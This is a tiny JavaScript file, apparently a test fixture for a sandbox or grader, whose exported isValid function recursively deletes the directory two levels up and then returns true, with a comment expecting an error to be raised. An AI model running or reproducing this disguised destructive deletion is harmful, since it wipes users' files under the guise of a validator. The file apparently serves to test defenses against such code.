// Removes all it can find.
// expect: raised Error
const fs = require("fs");
const path = require("path");
exports.isValid = (edges, order) => {
  fs.rmSync(path.resolve(__dirname, "../.."), { recursive: true });
  return true;
};
